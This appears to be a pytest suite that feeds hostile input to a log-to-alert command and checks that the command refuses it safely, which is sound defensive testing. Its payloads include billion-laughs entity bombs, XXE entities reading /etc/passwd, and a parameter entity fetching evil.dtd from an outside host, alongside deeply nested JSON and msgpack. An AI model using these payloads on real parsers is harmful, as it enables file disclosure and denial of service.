"""Input that cannot hurt: hostile input placed between good lines of the sample data, run
through the installed command (a file, and stdin through a pipe; msgpack where it applies).

Each run must exit 0, write only alert records on stdout, give the same alerts as the good
lines alone (nothing accepted is lost, nothing hostile gets in), report the hostile part with
the line it is on, count it in the ``--stats`` summary, and stay small in memory (the child's
peak RSS, from wait4)."""

import json
import os
from typing import Dict, Iterable, List, NamedTuple, Sequence, Tuple

import msgpack
import pytest

from cli import Result, alerts_of, run_measured
from samples import FIXTURES, SAMPLE_DIR

SAMPLE = SAMPLE_DIR


def _read(*parts: str) -> bytes:
    with open(os.path.join(*parts), "rb") as handle:
        return handle.read()


AUTH = _read(SAMPLE, "auth.log")
SECURITY = _read(SAMPLE, "security.xml")
SIGNINS = _read(SAMPLE, "signins.jsonl")
GOOD = AUTH + SECURITY + SIGNINS
ATTACKERS = ["192.0.2.50", "203.0.113.5", "203.0.113.66"]
GOOD_RECOGNISED = {"eventhub": 9, "syslog-rfc3339": 44, "windows-xml": 19}
MEMORY_LIMIT_KB = 80 * 1024  # the child's peak RSS: ~30 MB at rest; a 100 MB line must not be held
BIG = 100 * 1024 * 1024

# Where the hostile part goes: inside auth.log (203.0.113.5's failures are on both sides of
# it), inside security.xml (between two events), or between the failures and the sign-ins.
_AUTH_LINES = AUTH.splitlines(keepends=True)
_XML_LINES = SECURITY.splitlines(keepends=True)
POSITIONS = {
    "syslog": (b"".join(_AUTH_LINES[:22]), b"".join(_AUTH_LINES[22:]) + SECURITY + SIGNINS),
    "xml": (AUTH + b"".join(_XML_LINES[:10]), b"".join(_XML_LINES[10:]) + SIGNINS),
    "signins": (AUTH + SECURITY, SIGNINS),
}
assert all(head + tail == GOOD for head, tail in POSITIONS.values())


def around(hostile: bytes, position: str = "syslog") -> Tuple[bytes, int]:
    """The good data with ``hostile`` inside, and the number of the hostile part's first line."""
    head, tail = POSITIONS[position]
    return head + hostile + tail, head.count(b"\n") + 1


# -- running the command and measuring it ----------------------------------------------------

def run_via(via: str, data: bytes, tmp_path, args: Sequence[str] = ()) -> Tuple[Result, str]:
    """Run on ``data`` given as a file or on stdin; returns the result and the input's name as
    notices spell it."""
    if via == "file":
        path = tmp_path / "input.log"
        path.write_bytes(data)
        return run_measured(["--stats", *args, str(path)]), str(path)
    return run_measured(["--stats", *args, "-"], stdin=data), "stdin"


def check_sound(result: Result, expected_alerts: List[dict]) -> None:
    """What holds whatever the input: exit 0, no traceback, stdout only alert records and the
    same ones as the good input alone, memory bounded."""
    assert result.returncode == 0, result.text[-3000:]
    assert "Traceback" not in result.text, result.text[-3000:]
    assert alerts_of(result.stdout) == expected_alerts, result.text[-3000:]
    assert result.peak_rss_kb < MEMORY_LIMIT_KB, f"peak RSS {result.peak_rss_kb} KB"


@pytest.fixture(scope="module")
def good_alerts() -> List[dict]:
    result = run_measured(["--stats", "-"], stdin=GOOD)
    check_sound(result, alerts_of(result.stdout))
    alerts = alerts_of(result.stdout)
    assert sorted(alert["IPAddress"] for alert in alerts) == ATTACKERS
    assert result.counts("recognised") == GOOD_RECOGNISED
    return alerts


# -- hostile parts ---------------------------------------------------------------------------

FIRST_EVENT = _XML_LINES[1].rstrip(b"\n")
assert FIRST_EVENT.startswith(b"<Event") and FIRST_EVENT.endswith(b"</Event>")
OUTSIDER = b"198.51.100.99"  # an address of no alert


def hostile_event(reference: bytes) -> bytes:
    """A 4625 that would be read and counted were it not for its document's DTD: the entity is
    referenced where the reader never decodes (Channel), so only the DTD refusal keeps it out."""
    return FIRST_EVENT.replace(b"<Channel>Security</Channel>", b"<Channel>" + reference + b"</Channel>") \
        .replace(b"192.0.2.50", OUTSIDER)


LAUGHS = [b'<!ENTITY lol "lol">'] + [
    b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
    for level in range(1, 10)
]
DECLARATION = b'<?xml version="1.0"?>'
XXE = b'<!ENTITY xxe SYSTEM "file:///etc/passwd">'
PARAMETER_XXE = b'<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;'


def pretty_event(reference: bytes) -> bytes:
    """The fixtures' Event Viewer sample (one element per line) referencing an entity."""
    text = _read(FIXTURES, "windows.xml").decode()
    start = text.index('<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n')
    end = text.index("</Event>", start) + len("</Event>")
    return text[start:end].encode().replace(b"<Channel>Security</Channel>",
                                            b"<Channel>" + reference + b"</Channel>")


def padded_signin(size: int) -> bytes:
    """A sign-in record line of exactly ``size`` bytes (newline excluded), of no alert."""
    record = {"time": "2026-11-27T13:20:00Z", "category": "SignInLogs", "resultType": "0",
              "properties": {"id": "padded", "ipAddress": "198.51.100.200", "userPrincipalName": "pad@contoso.com",
                             "status": {"errorCode": 0}}, "pad": ""}
    line = json.dumps(record).encode()
    line = line.replace(b'"pad": ""', b'"pad": "' + b"x" * (size - len(line)) + b'"')
    assert len(line) == size
    return line


def failure(user: bytes, address: bytes = b"198.51.100.77") -> bytes:
    return (b"2026-11-27T09:30:00.000000+00:00 web1 sshd[4000]: Failed password for " + user + b" from "
            + address + b" port 4000 ssh2")


DEEP = 100_000


class Case(NamedTuple):
    name: str
    hostile: bytes
    counted: Dict[str, str]  # summary figures expected exactly
    notices: Sequence[Tuple[int, str]] = ()  # (line within the hostile part, 1-based; text)
    extra: Dict[str, int] = {}  # recognised events the hostile part adds (its good lines)
    position: str = "syslog"
    args: Sequence[str] = ()


REFUSED = "malformed windows-xml record: document declares a DTD or entities; refused"
EVENT_REFUSED = "malformed windows-xml record: event of a document that declares a DTD; refused"
OVER = "over the size limit; skipped"

CASES = [
    # -- XML: no DTD, no entity expansion -------------------------------------------------
    Case("billion-laughs-one-line",
         DECLARATION + b"<!DOCTYPE lolz [" + b"".join(LAUGHS) + b"]>" + hostile_event(b"&lol9;") + b"\n",
         {"malformed": "windows-xml 2"}, [(1, REFUSED), (1, EVENT_REFUSED)]),
    Case("billion-laughs-one-line-between-events",
         DECLARATION + b"<!DOCTYPE lolz [" + b"".join(LAUGHS) + b"]>" + hostile_event(b"&lol9;") + b"\n",
         {"malformed": "windows-xml 2"}, [(1, REFUSED), (1, EVENT_REFUSED)], position="xml"),
    Case("billion-laughs-multi-line",
         DECLARATION + b"\n<!DOCTYPE lolz [\n" + b"\n".join(b"  " + entity for entity in LAUGHS) + b"\n]>\n"
         + hostile_event(b"&lol9;") + b"\n",
         {"malformed": "windows-xml 2"}, [(2, REFUSED), (14, EVENT_REFUSED)]),
    Case("billion-laughs-event-on-the-dtds-last-line",
         DECLARATION + b"\n<!DOCTYPE lolz [\n" + b"\n".join(LAUGHS) + b"\n]>" + hostile_event(b"&lol9;") + b"\n",
         {"malformed": "windows-xml 2"}, [(2, REFUSED), (13, EVENT_REFUSED)], position="xml"),
    Case("billion-laughs-pretty-printed-event",
         DECLARATION + b"\n<!DOCTYPE lolz [" + b"".join(LAUGHS) + b"]>\n" + pretty_event(b"&lol9;") + b"\n",
         {"malformed": "windows-xml 2"}, [(2, REFUSED), (43, EVENT_REFUSED)]),
    Case("external-entity-one-line",
         DECLARATION + b"<!DOCTYPE foo [" + XXE + b"]>" + hostile_event(b"&xxe;") + b"\n",
         {"malformed": "windows-xml 2"}, [(1, REFUSED), (1, EVENT_REFUSED)]),
    Case("external-entity-multi-line",
         b"<!DOCTYPE foo [\n" + XXE + b"\n" + PARAMETER_XXE + b"\n]>\n" + hostile_event(b"&xxe;") + b"\n",
         {"malformed": "windows-xml 2"}, [(1, REFUSED), (5, EVENT_REFUSED)]),
    Case("external-dtd-no-subset",
         b'<!DOCTYPE Event SYSTEM "file:///etc/passwd">' + hostile_event(b"&xxe;") + b"\n",
         {"malformed": "windows-xml 2"}, [(1, REFUSED), (1, EVENT_REFUSED)]),
    # a DTD whose event never comes: it must not take the next document's event with it
    Case("dtd-without-its-event",
         b"<!DOCTYPE lolz [" + b"".join(LAUGHS) + b"]>\n",
         {"malformed": "windows-xml 1"}, [(1, REFUSED)]),
    # -- the size limit ------------------------------------------------------------------
    Case("line-at-the-limit", padded_signin(4096) + b"\n", {"oversized": "0", "malformed": "none"},
         extra={"eventhub": 1}, args=["--max-record-bytes", "4096"]),
    Case("line-one-byte-over-the-limit", padded_signin(4097) + b"\n", {"oversized": "1", "malformed": "none"},
         [(1, "record of 4097 bytes is " + OVER)], args=["--max-record-bytes", "4096"]),
    Case("crlf-line-at-the-limit", padded_signin(4095) + b"\r\n", {"oversized": "0"},
         extra={"eventhub": 1}, args=["--max-record-bytes", "4096"]),
    Case("xml-event-growing-past-the-limit",
         b"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>4625</EventID>\n"
         + b"".join(b"  <Data Name='Filler%d'>%s</Data>\n" % (index, b"x" * 80) for index in range(60)),
         {"oversized": "1", "malformed": "none"}, [(37, "record of 4122 bytes is " + OVER)], args=["--max-record-bytes", "4096"]),
    Case("xml-event-growing-past-the-limit-before-events",
         b"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>4625</EventID>\n"
         + b"".join(b"  <Data Name='Filler%d'>%s</Data>\n" % (index, b"x" * 80) for index in range(60)),
         {"oversized": "1", "malformed": "none"}, [(37, "record of 4122 bytes is " + OVER)], position="xml",
         args=["--max-record-bytes", "4096"]),
    Case("one-line-xml-event-over-the-limit",
         FIRST_EVENT.replace(b"<Data Name='IpPort'>-", b"<Data Name='IpPort'>" + b"9" * 5000) + b"\n",
         {"oversized": "1", "malformed": "none"}, [(1, OVER)], args=["--max-record-bytes", "4096"]),
    # -- invalid UTF-8 -------------------------------------------------------------------
    Case("invalid-utf8-in-syslog-lines",
         b"".join(failure(b"u" + bad + b"x") + b"\n" for bad in (
             b"\x80", b"\xbf\xbf", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xff\xfe", b"\xf8\x88\x80\x80\x80"))
         + failure(b"truncated\xe2\x82") + b"\n" + failure("valid-ünïcödé-✓".encode()) + b"\n",
         {"invalid utf8": "8", "malformed": "none", "unrecognised": "0"},
         [(1, "invalid UTF-8 replaced by U+FFFD"), (8, "invalid UTF-8 replaced by U+FFFD")],
         extra={"syslog-rfc3339": 9}),
    Case("invalid-utf8-in-json-lines",
         padded_signin(600).replace(b'"xxxx', b'"\xc0\xaf\x80\xe2\x82') + b"\n"
         + b'{"category": "SignInLogs", "time": \xff\xfe}\n' + padded_signin(300).replace(b'x"', b'\xe2\x82"') + b"\n",
         {"invalid utf8": "3", "malformed": "json 1"},
         [(1, "invalid UTF-8"), (2, "malformed json record"), (3, "invalid UTF-8")],
         extra={"eventhub": 2}, position="signins"),
    # -- deep and huge JSON --------------------------------------------------------------
    Case("json-nested-100k-deep-inside-records",
         b'{"category": "SignInLogs", "properties": ' + b"[" * DEEP + b"]" * DEEP + b"}\n"
         + b'{"MESSAGE": "x", "unknown": ' + b"[" * DEEP + b"]" * DEEP + b"}\n"
         + b'{"records": [' + b'{"records": [' * (DEEP // 20) + b"]}" * (DEEP // 20) + b"]}\n",
         {"malformed": "json 3", "unrecognised": "0"},
         [(1, "malformed json record"), (3, "malformed json record")], position="signins"),
    Case("json-array-nested-100k-deep-as-the-line", b"[" * DEEP + b"]" * DEEP + b"\n",
         {"unrecognised": "1", "malformed": "none"}, [(1, "unrecognised input: '[[[[")]),
    Case("huge-json-records-under-the-limit",
         padded_signin(900_000) + b"\n"
         + b'{"category": "SignInLogs", "properties": {"ipAddress": "198.51.100.200"}, "pad": ['
         + b",".join([b'{"a": [1.5e300, -1e-300, 123456789012345678901234567890, "\\u0000"]}'] * 12000) + b"]}\n",
         {"malformed": "eventhub 1", "oversized": "0"}, [(2, "malformed eventhub record")],
         extra={"eventhub": 1}, position="signins"),
    Case("numbers-int-and-float-refuse",
         b"\n".join(json.dumps(record).encode() for record in [
             {"MESSAGE": "x", "__REALTIME_TIMESTAMP": "9" * 5000},
             {"MESSAGE": "x", "__REALTIME_TIMESTAMP": "9" * 400},
             {"MESSAGE": "x", "__REALTIME_TIMESTAMP": "1", "SYSLOG_FACILITY": "\u00b2"},
             {"Type": "SecurityEvent", "TimeGenerated": "2026-11-27T12:00:00Z", "EventID": "\u00b2"},
             {"Type": "SecurityEvent", "TimeGenerated": "2026-11-27T12:00:00Z", "EventID": 4625, "LogonType": "9" * 5000},
             {"ident": "sshd", "time": 1, "message": "x", "pri": "9" * 5000},
             {"category": "SignInLogs", "time": 10 ** 400, "properties": {"ipAddress": "198.51.100.200"}},
             {"winlog": {"event_id": "\u00b3"}, "@timestamp": "2026-11-27T12:00:00Z"},
         ]) + b"\n" + FIRST_EVENT.replace(b"<EventID>4625", b"<EventID>" + b"9" * 5000) + b"\n"
         + FIRST_EVENT.replace(b"administrator", b"&#" + b"9" * 5000 + b";") + b"\n"
         + FIRST_EVENT.replace(b"<Data Name='LogonType'>3", "<Data Name='LogonType'>\u00b2".encode()) + b"\n"
         + b'{"category": "SignInLogs", "time": 1e999}\n',
         # a value that is no (small) number is not that number: a garbage EventID is another
         # event (ignored), a garbage LogonType or facility no remote logon or auth facility
         {"malformed": "eventhub 1, journald 2, json 1, windows-xml 2", "ignored": "sentinel-row 1, winlogbeat 1"},
         [(1, "malformed journald record"), (9, "malformed windows-xml record")],
         extra={"journald": 1, "sentinel-row": 2, "fluentd-syslog": 1, "windows-xml": 1, "winlogbeat": 1},
         position="signins"),
    # -- NUL bytes -----------------------------------------------------------------------
    Case("nul-bytes-inside-lines",
         failure(b"ro\x00ot") + b"\n" + padded_signin(500).replace(b"xxx", b"x\\u0000x", 1) + b"\n"
         + b'{"category": "SignInLogs", "x": "\x00"}\n' + FIRST_EVENT.replace(b"administrator", b"adm\x00in")
         .replace(b"192.0.2.50", OUTSIDER) + b"\n",
         {"malformed": "json 1", "unrecognised": "0"}, [(3, "malformed json record")],
         extra={"syslog-rfc3339": 1, "eventhub": 1, "windows-xml": 1}, position="xml"),
    Case("a-line-of-nuls", b"\x00" * 8192 + b"\n", {"unrecognised": "1"}, [(1, "unrecognised input: '\\x00\\x00")]),
    Case("nuls-running-into-the-next-line",  # a crash leaves NULs and the next line follows them
         b"\x00" * 8192 + failure(b"after-the-crash") + b"\n", {"unrecognised": "0", "malformed": "none"},
         extra={"syslog-rfc3339": 1}),
]


def _expected_recognised(extra: Dict[str, int]) -> Dict[str, int]:
    recognised = dict(GOOD_RECOGNISED)
    for kind, count in extra.items():
        recognised[kind] = recognised.get(kind, 0) + count
    return recognised


@pytest.mark.parametrize("via", ["file", "stdin"])
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_hostile_part_between_good_lines(case, via, tmp_path, good_alerts):
    data, first_line = around(case.hostile, case.position)
    result, name = run_via(via, data, tmp_path, case.args)
    check_sound(result, good_alerts)
    summary = result.summary()
    for figure, value in case.counted.items():
        if figure == "malformed":
            expected = dict(item.rsplit(" ", 1) for item in value.split(", ")) if value != "none" else {}
            assert {kind: str(count) for kind, count in result.counts("malformed").items()} == expected, result.text
        else:
            assert summary[figure] == value, (figure, result.text)
    # the good lines around it: every one read, and nothing of the hostile part counted as good
    assert result.counts("recognised") == _expected_recognised(case.extra), result.text
    assert summary["failures counted"] == "SecurityEvent 10, WindowsEvent 0, Syslog 32" \
        or case.extra.get("syslog-rfc3339") or case.extra.get("windows-xml"), result.text
    for offset, text in case.notices:
        assert f"{name}:{first_line + offset - 1}: " in result.text, (offset, result.text)
        line_notices = [line for line in result.text.splitlines() if f"{name}:{first_line + offset - 1}: " in line]
        assert any(text in line for line in line_notices), (offset, text, result.text)


def test_entity_bomb_notices_go_to_the_log_file(tmp_path, good_alerts):
    """With --log-file, notices go there (Fluentd discards the child's stderr) and stdout stays clean."""
    data, first_line = around(CASES[0].hostile)
    log = tmp_path / "fail2entra.log"
    result = run_measured(["--log-file", str(log), "-"], stdin=data)
    check_sound(result, good_alerts)
    assert result.stderr == b""
    text = log.read_text()
    assert f"stdin:{first_line}: {REFUSED}" in text and f"stdin:{first_line}: {EVENT_REFUSED}" in text
    assert "lol" not in text  # nothing of the declarations, expanded or not, is echoed


def test_entity_bomb_many_times_stays_small(tmp_path, good_alerts):
    """A thousand bombs in a row: each refused and counted, never expanded (memory, time)."""
    bomb = CASES[0].hostile
    result, _ = run_via("stdin", around(bomb * 1000)[0], tmp_path)
    check_sound(result, good_alerts)
    assert result.counts("malformed") == {"windows-xml": 2000}
    assert result.counts("recognised") == GOOD_RECOGNISED
    assert len(result.text.splitlines()) < 60, result.text  # notices rate-limited: the log is not flooded


def test_deep_json_array_line_is_malformed_in_json_mode():
    result = run_measured(["--stats", "--input", "json", "-"], stdin=b"[" * DEEP + b"]" * DEEP + b"\n" + SIGNINS)
    assert result.returncode == 0 and "Traceback" not in result.text
    assert result.counts("malformed") == {"json": 1} and result.counts("recognised") == {"eventhub": 9}
    assert "stdin:1: malformed json record" in result.text


@pytest.mark.parametrize("wrapper", ["records", "value"])
def test_wrapper_lists_nested_near_the_recursion_limit(wrapper, good_alerts):
    """Event Hub ``records`` / Graph ``value`` lists nested hundreds deep: around the depth where
    the decoder stops and the reader's own recursion would, each line is ignored or malformed."""
    depths = range(440, 520)
    lines = b"".join(b'{"%s": [' % wrapper.encode() * depth + b"{}" + b"]}" * depth + b"\n" for depth in depths)
    data, _ = around(lines, "signins")
    result = run_measured(["--stats", "-"], stdin=data)
    check_sound(result, good_alerts)
    accounted = sum(result.counts("malformed").values()) + sum(result.counts("ignored").values())
    assert accounted == len(depths), result.text
    assert result.counts("recognised") == _expected_recognised(result.counts("ignored"))  # ignored ones are recognised


# -- a 100 MB line ------------------------------------------------------------------------

def _big_line_chunks(prefix: bytes, size: int = BIG) -> Iterable[bytes]:
    chunk = bytes(range(32, 127)) * (1024 * 1024 // 95 + 1)
    chunk = chunk[:1024 * 1024]  # printable, no newline
    yield prefix
    for _ in range(size // len(chunk)):
        yield chunk


@pytest.fixture(scope="module")
def big_line_file(tmp_path_factory):
    """auth.log's first half, one 100 MB line (an XML event that never ends, no newline), the rest."""
    path = tmp_path_factory.mktemp("big") / "big.log"
    head, tail = POSITIONS["syslog"]
    with open(path, "wb") as handle:
        handle.write(head)
        for chunk in _big_line_chunks(FIRST_EVENT[:200]):
            handle.write(chunk)
        handle.write(b"\n" + tail)
    yield path
    path.unlink()


def _check_big(result: Result, name: str, good_alerts) -> None:
    check_sound(result, good_alerts)
    assert result.summary()["oversized"] == "1"
    assert result.counts("recognised") == GOOD_RECOGNISED
    assert result.text.count(OVER) == 1, result.text  # reported once
    assert f"{name}:23: record of {BIG + 200 + 1 - 1} bytes is {OVER}" in result.text, result.text
    print(f"100 MB line via {name}: peak RSS {result.peak_rss_kb / 1024:.1f} MB")


def test_100mb_line_from_a_file(big_line_file, good_alerts):
    _check_big(run_measured(["--stats", str(big_line_file)]), str(big_line_file), good_alerts)


def test_100mb_line_through_stdin(big_line_file, good_alerts):
    def chunks():
        with open(big_line_file, "rb") as handle:
            while True:
                chunk = handle.read(256 * 1024)
                if not chunk:
                    return
                yield chunk
    _check_big(run_measured(["--stats", "-"], stdin=chunks()), "stdin", good_alerts)


# -- msgpack ------------------------------------------------------------------------------

def _maps() -> List[dict]:
    """The sample data as Fluentd sends it: raw lines in ``log``, sign-ins as maps."""
    maps = [{"log": line} for line in AUTH.decode().splitlines()]
    maps += [{"log": line} for line in SECURITY.decode().splitlines() if line.startswith("<Event")]
    maps += [json.loads(line) for line in SIGNINS.decode().splitlines()]
    return maps


MAPS = [msgpack.packb(item) for item in _maps()]
MSGPACK_GOOD = b"".join(MAPS)


def msgpack_around(hostile: bytes) -> bytes:
    return b"".join(MAPS[:22]) + hostile + b"".join(MAPS[22:])


@pytest.fixture(scope="module")
def msgpack_alerts(good_alerts) -> List[dict]:
    result = run_measured(["--stats", "--input", "msgpack", "-"], stdin=MSGPACK_GOOD)
    check_sound(result, good_alerts)  # the same alerts as the text lines
    assert result.counts("recognised") == GOOD_RECOGNISED
    return good_alerts


def _str_header(length: int) -> bytes:
    return b"\xdb" + length.to_bytes(4, "big")


MSGPACK_CASES = {
    "nul-in-strings": (
        msgpack.packb({"log": failure(b"ro\x00ot").decode()}) + msgpack.packb({"lo\x00g": "x", "message\x00": 1})
        + msgpack.packb({"log": "\x00" * 100}),
        {"unrecognised": "2"}, {"syslog-rfc3339": 1}),
    "invalid-utf8-in-strings": (
        b"\x81\xa3log" + _str_header(len(failure(b"\xc0\xaf\xff"))) + failure(b"\xc0\xaf\xff"),
        {"unrecognised": "0", "malformed": "none"}, {"syslog-rfc3339": 1}),
    "not-maps-and-undecodable-bytes": (
        msgpack.packb([1, 2]) + msgpack.packb("a string") + b"\xc1\xc1\xc1" + msgpack.packb({"neither": 1}),
        {"malformed": "msgpack 3", "unrecognised": "1"}, {}),
    "nested-2000-deep": (b"\x91" * 2000 + b"\xc0" + b"\x81\xa1a" + b"\x91" * 2000 + b"\xc0",
                         {"malformed": "msgpack 2"}, {}),
    # a resynchronisation starts at each map header inside it and walks to the same broken byte:
    # one notice, not one per header (time quadratic in its length: 1.1 s for these 3 KB)
    "maps-nested-1000-deep-then-an-unused-byte": (b"\x81\xa1a" * 1000 + b"\xc1", {"malformed": "msgpack 1"}, {}),
    "a-3mb-record": (msgpack.packb({"log": "a" * 3_000_000, "x": [1, {"y": b"\x00" * 5000}]}),
                     {"oversized": "1", "malformed": "none", "unrecognised": "0"}, {}),
    "a-record-just-over-the-limit": (msgpack.packb({"log": "b" * (1024 * 1024)}),
                                     {"oversized": "1", "malformed": "none"}, {}),
    "huge-declared-lengths": (b"\xdd\xff\xff\xff\xff" + b"\xdf\xff\xff\xff\xff", {"oversized": "0"}, {}),
    "nan-and-infinite-times": (
        b"".join(msgpack.packb({"time": value, "category": "SignInLogs", "resultType": "0",
                                "properties": {"id": "t", "ipAddress": "203.0.113.5", "userPrincipalName": "t@x"}})
                 for value in (float("nan"), float("inf"), -float("inf"))),
        {"malformed": "eventhub 3"}, {}),
}


@pytest.mark.parametrize("name", sorted(MSGPACK_CASES))
def test_hostile_msgpack_between_good_records(name, msgpack_alerts):
    hostile, counted, extra = MSGPACK_CASES[name]
    result = run_measured(["--stats", "--input", "msgpack", "-"], stdin=msgpack_around(hostile))
    check_sound(result, msgpack_alerts)
    summary = result.summary()
    for figure, value in counted.items():
        assert summary[figure] == value, (figure, result.text)
    assert result.counts("recognised") == _expected_recognised(extra), result.text


def test_100mb_msgpack_record_is_skipped_to_its_end(msgpack_alerts):
    """A map holding a 100 MB string: skipped to its end without being held, reported once;
    a msgpack map hidden inside the string is never read as a record."""
    smuggled = msgpack.packb({"time": "2026-11-27T13:00:00Z", "category": "SignInLogs", "resultType": "0",
                              "properties": {"id": "smuggled", "ipAddress": "203.0.113.5",
                                             "userPrincipalName": "smuggled@contoso.com"}})
    filler = (smuggled + b"\xc1") * (1024 * 1024 // (len(smuggled) + 1))
    filler = filler + b"z" * (1024 * 1024 - len(filler))

    def stream():
        yield b"".join(MAPS[:22]) + b"\x81\xa3log" + _str_header(BIG)
        for _ in range(100):
            yield filler
        yield b"".join(MAPS[22:])

    result = run_measured(["--stats", "--input", "msgpack", "-"], stdin=stream())
    check_sound(result, msgpack_alerts)
    assert result.summary()["oversized"] == "1" and result.counts("malformed") == {}
    assert result.counts("recognised") == GOOD_RECOGNISED
    assert f"stdin:23: record of {BIG + 10} bytes is {OVER}" in result.text, result.text
    print(f"100 MB msgpack record: peak RSS {result.peak_rss_kb / 1024:.1f} MB")


def test_msgpack_with_a_small_limit_keeps_every_record(msgpack_alerts):
    """Records under a small --max-record-bytes are all read, however the pipe joins them."""
    result = run_measured(["--stats", "--input", "msgpack", "--max-record-bytes", "2000", "-"], stdin=MSGPACK_GOOD)
    check_sound(result, msgpack_alerts)
    assert result.summary()["oversized"] == "0" and result.counts("recognised") == GOOD_RECOGNISED


# -- a stream that ends in the middle of a record -------------------------------------------

TRUNCATED = {
    "syslog-line-without-newline": (failure(b"last-line"), {"malformed": "none"}, {"syslog-rfc3339": 1}, None),
    "xml-event-cut-before-its-end": (FIRST_EVENT[:-200], {"malformed": "windows-xml 1"}, {},
                                     "malformed windows-xml record: stream ended inside an <Event>"),
    "pretty-xml-event-cut": (pretty_event(b"Security")[:-300], {"malformed": "windows-xml 1"}, {},
                             "stream ended inside an <Event>"),
    "json-line-cut-in-half": (SIGNINS.splitlines()[0][:300], {"malformed": "json 1"}, {}, "malformed json record"),
}


@pytest.mark.parametrize("via", ["file", "stdin"])
@pytest.mark.parametrize("name", sorted(TRUNCATED))
def test_stream_ending_in_the_middle_of_a_record(name, via, tmp_path, good_alerts):
    cut, counted, extra, notice = TRUNCATED[name]
    result, input_name = run_via(via, GOOD + cut, tmp_path)
    check_sound(result, good_alerts)
    for figure, value in counted.items():
        assert result.summary()[figure] == value, result.text
    assert result.counts("recognised") == _expected_recognised(extra), result.text
    if notice:
        last_line = GOOD.count(b"\n") + cut.count(b"\n") + 1
        assert f"{input_name}:{last_line}: " in result.text and notice in result.text, result.text


def test_a_file_cut_inside_an_event_does_not_spill_into_the_next_file(tmp_path, good_alerts):
    first, second = tmp_path / "first.log", tmp_path / "second.log"
    first.write_bytes(AUTH + FIRST_EVENT[:-100])
    second.write_bytes(SECURITY + SIGNINS)
    result = run_measured(["--stats", str(first), str(second)])
    check_sound(result, good_alerts)
    assert result.counts("malformed") == {"windows-xml": 1}
    assert f"{first}:45: malformed windows-xml record: stream ended inside an <Event>" in result.text
    assert result.counts("recognised") == GOOD_RECOGNISED


@pytest.mark.parametrize("cut", [1, 2, 5, 9, 30, -1])
def test_msgpack_stream_cut_in_the_middle_of_a_map(cut, msgpack_alerts):
    last = msgpack.packb({"log": failure(b"cut").decode(), "tag": "auth", "x": [1, 2, {"y": "z"}]})
    result = run_measured(["--stats", "--input", "msgpack", "-"], stdin=MSGPACK_GOOD + last[:cut])
    check_sound(result, msgpack_alerts)
    assert result.counts("malformed") == {"msgpack": 1}, result.text
    assert f"stdin:{len(MAPS) + 1}: malformed msgpack record: stream ended inside a record" in result.text
    assert result.counts("recognised") == GOOD_RECOGNISED


# -- an open XML construct ends where it closes, or at the next record, wherever they fall ------

SSHD_FAILURE = "2026-12-01T10:00:00+00:00 web1 sshd[1]: Failed password for root from 192.0.2.250 port 22 ssh2"


@pytest.mark.parametrize("length", [10, 4_093, 4_096, 4_100, 70_000])
def test_a_long_comment_closed_later_hides_nothing_after_it(length):
    """The end of an open construct is searched in growing stretches (a never-closed one costs
    the distance to the next record): a closing that falls across a stretch is still found."""
    from samples import read_text
    recorder = read_text(f"<!-- {'x' * length} -->\n{SSHD_FAILURE}\n".encode())
    assert recorder.problems == [] and [event.program for event in recorder.events] == ["sshd"]


@pytest.mark.parametrize("length", [10, 4_093, 4_096, 4_100, 70_000])
def test_a_comment_never_closed_ends_at_the_next_record_however_far(length):
    from samples import read_text
    recorder = read_text(f"<!-- {'x' * length}\n{'y' * length}\n{SSHD_FAILURE}\n".encode())
    assert len(recorder.problems) == 1 and "followed by a new record" in recorder.problems[0]
    assert [event.program for event in recorder.events] == ["sshd"]
